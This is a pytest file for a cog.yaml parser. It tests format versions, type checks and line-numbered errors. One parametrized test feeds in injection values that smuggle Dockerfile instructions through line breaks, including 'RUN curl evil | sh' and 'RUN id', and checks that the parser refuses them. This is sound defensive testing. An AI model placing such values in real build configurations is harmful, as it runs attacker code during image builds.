"""cog.yaml of every era into a CogConfig; YAML quirks; errors with file:line."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from cog2fal.codes import Code
from cog2fal.errors import CogProjectError
from cog2fal.reading.config import read_config, split_ref


def config(tmp_path: Path, text: str):
    path = tmp_path / "cog.yaml"
    path.write_text(textwrap.dedent(text).lstrip())
    return read_config(path)


def test_current_format(tmp_path: Path) -> None:
    cfg = config(tmp_path, '''
        build:
          gpu: true
          python_version: "3.11"
          python_packages: ["torch==2.3.1"]
          system_packages: [ffmpeg]
          run:
            - echo hi
            - command: pip install private
              mounts:
                - type: secret
                  id: netrc
                  target: /root/.netrc
          cuda: "12.1"
        predict: "predict.py:Predictor"
        train: "train.py:train"
        image: r8.im/acme/model
        concurrency:
          max: 4
        environment:
          - HF_HOME=/src/cache
          - EMPTY=
    ''')
    assert cfg.gpu and cfg.python_version == "3.11" and cfg.cuda == "12.1"
    assert [r.command for r in cfg.run] == ["echo hi", "pip install private"]
    assert cfg.run[1].mounts == [{"type": "secret", "id": "netrc", "target": "/root/.netrc"}]
    assert cfg.concurrency_max == 4
    assert cfg.environment == {"HF_HOME": "/src/cache", "EMPTY": ""}
    assert cfg.line_of("build.cuda") == 13


def test_unquoted_python_version_keeps_its_text(tmp_path: Path) -> None:
    assert config(tmp_path, "build:\n  python_version: 3.10\npredict: p.py:P\n").python_version == "3.10"


def test_null_lists(tmp_path: Path) -> None:
    cfg = config(tmp_path, "build:\n  run:\n  system_packages:\npredict: p.py:P\n")
    assert cfg.run == [] and cfg.system_packages == []


def test_run_key_of_0_20(tmp_path: Path) -> None:
    assert config(tmp_path, 'run: "run.py:Runner"\n').predict == "run.py:Runner"


def test_legacy_2021_format(tmp_path: Path) -> None:
    cfg = config(tmp_path, '''
        model: "model.py:Sharpener"
        environment:
          python_version: "3.8"
          architectures: [cpu, gpu]
          python_packages: [numpy==1.21.0]
        examples:
          - input: {x: 1}
    ''')
    assert cfg.legacy_format and cfg.predict == "model.py:Sharpener" and cfg.gpu
    assert cfg.python_packages == ["numpy==1.21.0"]
    assert "examples" in cfg.ignored_keys


def test_unknown_keys_are_reported_not_fatal(tmp_path: Path) -> None:
    cfg = config(tmp_path, "predict: p.py:P\nbuild:\n  fast: true\nnonsense: 1\n")
    assert set(cfg.ignored_keys) == {"build.fast", "nonsense"}


@pytest.mark.parametrize(("text", "line", "words"), [
    ("build:\n  gpu: true\n  - bad\npredict: p.py:P\n", 3, "invalid YAML"),
    ("predict: p.py:P\nrun: r.py:R\n", 2, "cannot both be set"),
    ("predict: p.py:P\nconcurrency:\n  max: zero\n", 3, "concurrency.max"),
    ("predict: p.py:P\nenvironment:\n  - not an assignment\n", 3, "NAME=value"),
    ("build:\n  gpu: true\n", 1, "no `predict:`"),
    ("- just\n- a list\n", 1, "mapping"),
])
def test_errors_name_the_line(tmp_path: Path, text: str, line: int, words: str) -> None:
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, text)
    assert error.value.line == line and words in error.value.message
    assert "\n" not in str(error.value)


def test_split_ref(tmp_path: Path) -> None:
    cfg = config(tmp_path, 'predict: "src/predict-large.py:Predictor"\n')
    assert split_ref(cfg.predict, cfg) == ("src/predict-large.py", "Predictor")
    bad = config(tmp_path, 'predict: "predict:Predictor"\n')
    with pytest.raises(CogProjectError):
        split_ref(bad.predict, bad)


# --------------------------------------------------------------------------- value types


@pytest.mark.parametrize("value", ['"false"', '"true"', "1", "0", '"no"', "[true]"])
def test_gpu_must_be_a_yaml_boolean(tmp_path: Path, value: str) -> None:
    """Cog's schema types `gpu` as a boolean: a string "false" is not false, it is an error."""
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, f"predict: p.py:P\nbuild:\n  gpu: {value}\n")
    assert error.value.line == 3 and "`build.gpu`" in error.value.message


@pytest.mark.parametrize(("value", "gpu"), [("true", True), ("false", False), ("", False), ("yes", True)])
def test_gpu_booleans(tmp_path: Path, value: str, gpu: bool) -> None:
    assert config(tmp_path, f"predict: p.py:P\nbuild:\n  gpu: {value}\n").gpu is gpu


@pytest.mark.parametrize("value", ["true", "false", "1.5", '"4"', "[4]"])
def test_concurrency_max_must_be_an_integer(tmp_path: Path, value: str) -> None:
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, f"predict: p.py:P\nconcurrency:\n  max: {value}\n")
    assert error.value.line == 3 and "`concurrency.max`" in error.value.message


def test_concurrency_as_a_plain_number_is_the_maximum_with_a_note(tmp_path: Path) -> None:
    cfg = config(tmp_path, "predict: p.py:P\nconcurrency: 32\n")
    assert cfg.concurrency_max == 32
    [note] = cfg.notes
    assert note.code == Code.CONCURRENCY_PLAIN_NUMBER and note.location.line == 2
    assert "concurrency: 32" in note.message


@pytest.mark.parametrize("value", ["true", "0", '"32"', "-1"])
def test_concurrency_plain_values_that_are_not_a_maximum(tmp_path: Path, value: str) -> None:
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, f"predict: p.py:P\nconcurrency: {value}\n")
    assert error.value.line == 2 and "`concurrency`" in error.value.message
    assert "concurrency.max" not in error.value.message  # the file has no such key


# --------------------------------------------------------------------------- Dockerfile values


@pytest.mark.parametrize(("text", "line"), [
    ('predict: p.py:P\nbuild:\n  python_version: "3.11\\nRUN curl evil | sh"\n', 3),
    ('predict: p.py:P\nbuild:\n  system_packages:\n    - ffmpeg\n    - "git\\nRUN id"\n', 5),
    ('predict: p.py:P\nbuild:\n  cuda: "12.1\\rFROM x"\n', 3),
    ('predict: p.py:P\nbuild:\n  cudnn: "9\\x00"\n', 3),
    ('predict: p.py:P\nbuild:\n  python_packages: ["torch\\nRUN id"]\n', 3),
    ('predict: p.py:P\nbuild:\n  pre_install: ["echo\\u2028RUN id"]\n', 3),
    ('predict: p.py:P\nbuild:\n  run:\n    - "echo hi\\nRUN id"\n', 4),
    ('predict: p.py:P\nbuild:\n  run:\n    - command: "echo\\x1b[2J"\n', 4),
    ('predict: p.py:P\nbuild:\n  run:\n    - command: echo\n'
     '      mounts: [{type: secret, id: "a\\nRUN id", target: /x}]\n', 4),
    ('predict: p.py:P\nenvironment:\n  - "A=1"\n  - "TOKEN=x\\nRUN curl evil"\n', 4),
    ('predict: p.py:P\nenvironment:\n  - "A=1\\x85B"\n', 3),
    ('predict: "p.py:P\\nRUN id"\n', 1),
    ('predict: p.py:P\ntrain: "t.py:T\\x00"\n', 2),
    ('predict: p.py:P\nimage: "r8.im/a\\nb"\n', 2),
    ('model: "m.py:M"\nenvironment:\n  python_version: "3.8\\nRUN id"\n', 3),
])
def test_control_characters_in_values_are_refused_at_their_line(tmp_path: Path, text: str,
                                                                 line: int) -> None:
    """Values reach the Dockerfile and the app: a line break there would be a new instruction."""
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, text)
    assert error.value.line == line and "control character" in error.value.message
    assert "\n" not in str(error.value) and "RUN" not in str(error.value)


def test_folded_and_block_run_items_keep_parity_with_cog(tmp_path: Path) -> None:
    """A folded (>) item is one line; a block (|) item ends in a newline Cog strips: both fine.
    A block with two lines is refused, as current Cog refuses it."""
    cfg = config(tmp_path, "predict: p.py:P\nbuild:\n  run:\n    - >\n      pip install\n      x\n"
                           "    - |\n      echo hi\n    - \"echo\\ttab\"\n")
    assert [item.command for item in cfg.run] == ["pip install x", "echo hi", "echo\ttab"]
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, "predict: p.py:P\nbuild:\n  run:\n    - |\n      echo a\n      echo b\n")
    assert error.value.line == 4 and "new line" in error.value.message


@pytest.mark.parametrize("item", ["'\\'", "'pip install x \\  '", "{command: 'echo \\'}"])
def test_a_run_command_ending_in_a_backslash_is_refused(tmp_path: Path, item: str) -> None:
    """Found by the fuzz suite: `RUN echo \\` continues into the next Dockerfile instruction."""
    with pytest.raises(CogProjectError) as error:
        config(tmp_path, f"predict: p.py:P\nbuild:\n  run:\n    - echo ok\n    - {item}\n")
    assert error.value.line == 5 and "backslash" in error.value.message


def test_a_backslash_inside_a_run_command_is_kept(tmp_path: Path) -> None:
    cfg = config(tmp_path, "predict: p.py:P\nbuild:\n  run:\n    - 'printf \"a\\n\" > f'\n")
    assert [item.command for item in cfg.run] == ['printf "a\\n" > f']
